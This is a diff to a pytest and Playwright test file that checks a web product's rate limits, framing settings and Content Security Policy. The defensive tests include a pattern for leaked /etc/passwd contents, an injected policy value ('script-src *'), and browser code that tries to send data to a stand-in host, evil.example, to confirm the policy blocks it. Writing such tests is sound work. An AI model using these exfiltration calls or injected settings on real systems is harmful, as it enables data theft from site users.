@@ -12,9 +12,9 @@ from urllib.parse import urlsplit
 
 import pytest
 from atlas_page import open_atlas
-from pages import name_of, page_addresses, visit
 from playwright.sync_api import Page
-from servers import ROOT, Server, serve_product
+from servers import ROOT, Server, health, serve_product
+from waiting import poll_equal
 
 SECRET = re.compile(rb"root:.*:0:0:|streamlit==|\[server\]|from __future__|enableXsrfProtection")
 """What stands in /etc/passwd, requirements.txt, config.toml and our own modules."""
@@ -153,65 +153,63 @@ def test_a_socket_of_another_origin_is_refused(server: Server) -> None:
     assert status == 403
 
 
-def test_too_many_requests_are_refused_and_pages_still_served() -> None:
-    with serve_product(environment={"ESS_API_PER_MINUTE": "6", "ESS_API_BURST": "3"}) as strict:
-        statuses = [request(strict, "/api/v1/status?instrument=apmbc")[0] for _ in range(5)]
-        assert statuses == [200, 200, 200, 429, 429]
-        status, headers, body = request(strict, "/feeds/changes.atom", headers={"X-Forwarded-For": "203.0.113.7"})
-        assert status == 429, "a header of the client's own buys nothing"
-        assert int(headers["retry-after"]) >= 1
-        assert json.loads(body)["error"]
-        assert headers["x-content-type-options"] == "nosniff"
-        assert request(strict, "/health")[0] == 200
-        assert request(strict, "/")[0] == 200
-        assert request(strict, "/api/v1/status?q=" + "a" * 9000)[0] == 414
+OTHER_SETTINGS = {
+    "ESS_API_PER_MINUTE": "1",
+    "ESS_API_BURST": "4",
+    "ESS_FRAME_ANCESTORS": "https://news.example",
+    "TZ": "Pacific/Kiritimati",
+    "LC_ALL": "C",
+    "LANG": "C",
+}
+"""A newsroom at the other end of the world that lets each client ask four times, and once a minute from then on."""
 
 
-@pytest.mark.parametrize("setting", ["https://example.org; script-src *", "*", "nonsense"])
-def test_a_setting_that_would_open_the_policy_stops_the_start(setting: str) -> None:
+def test_a_server_of_other_settings(server: Server, subtests: pytest.Subtests) -> None:
+    status = "/api/v1/status?instrument=apmbc"
+    with serve_product(environment=OTHER_SETTINGS) as other:
+        with subtests.test("another zone of time says the same"):
+            assert request(other, status)[2] == request(server, status)[2]
+            assert health(other.url)["as_of"] == health(server.url)["as_of"]
+        with subtests.test("a named host may embed"):
+            _, headers, _ = request(other, "/")
+            assert "frame-ancestors 'self' https://news.example;" in headers["content-security-policy"]
+            assert "x-frame-options" not in headers
+        with subtests.test("too many requests are refused and pages still served"):
+            assert [request(other, status)[0] for _ in range(5)] == [200, 200, 200, 429, 429]
+            code, headers, body = request(other, "/feeds/changes.atom", headers={"X-Forwarded-For": "203.0.113.7"})
+            assert code == 429, "a header of the client's own buys nothing"
+            assert int(headers["retry-after"]) >= 1
+            assert json.loads(body)["error"]
+            assert headers["x-content-type-options"] == "nosniff"
+            assert request(other, "/health")[0] == 200
+            assert request(other, "/")[0] == 200
+            assert request(other, "/api/v1/status?q=" + "a" * 9000)[0] == 414
+
+
+def test_a_setting_that_would_open_the_policy_stops_the_start() -> None:
+    """One real start; every setting that must be refused is given to the function in tests/server."""
     with (
         pytest.raises(RuntimeError, match="ESS_FRAME_ANCESTORS"),
-        serve_product(environment={"ESS_FRAME_ANCESTORS": setting}),
+        serve_product(environment={"ESS_FRAME_ANCESTORS": "https://example.org; script-src *"}),
     ):
         pass
-
-
-def test_a_named_host_may_embed(server: Server) -> None:
-    with serve_product(environment={"ESS_FRAME_ANCESTORS": "https://news.example"}) as open_one:
-        _, headers, _ = request(open_one, "/")
-    assert "frame-ancestors 'self' https://news.example;" in headers["content-security-policy"]
-    assert "x-frame-options" not in headers
-
-
-@pytest.mark.parametrize("name", page_addresses(), ids=name_of)
-def test_the_policy_hinders_no_page(page: Page, guard: Any, name: str) -> None:
-    """Everything a page does is allowed by the policy, and nothing it does needs another host."""
-    guard.expected.append("status of 404")
-    broken: list[str] = []
-    page.on(
-        "console", lambda message: broken.append(message.text) if "Content Security Policy" in message.text else None
-    )
-    visit(page, name, "focus=LTU")
-    assert not broken
 
 
 def test_the_policy_stops_what_a_script_would_send_out(page: Page, guard: Any) -> None:
     """A request, a socket and a picture to another host: each is stopped by the policy before it leaves."""
     guard.expected += ["Content Security Policy", "Failed to fetch", "Fetch API cannot load"]
     open_atlas(page)
-    stopped = page.evaluate(
+    page.evaluate(
         """async () => {
-            const told = [];
+            const told = window.essTold = [];
             document.addEventListener("securitypolicyviolation", (one) => told.push(one.effectiveDirective));
             try { await fetch("https://evil.example/?stolen=1"); } catch {}
             try { new WebSocket("wss://evil.example/"); } catch {}
             await new Promise((done) => { const picture = new Image(); picture.onerror = done;
                 picture.src = "https://evil.example/a.png"; });
-            await new Promise((done) => setTimeout(done, 100));
-            return told;
         }"""
     )
-    assert sorted(stopped) == ["connect-src", "connect-src", "img-src"]
+    poll_equal(page, "window.essTold.toSorted()", ["connect-src", "connect-src", "img-src"])
     guard.outside[:] = [one for one in guard.outside if not one.startswith("https://evil.example/")]
 
 
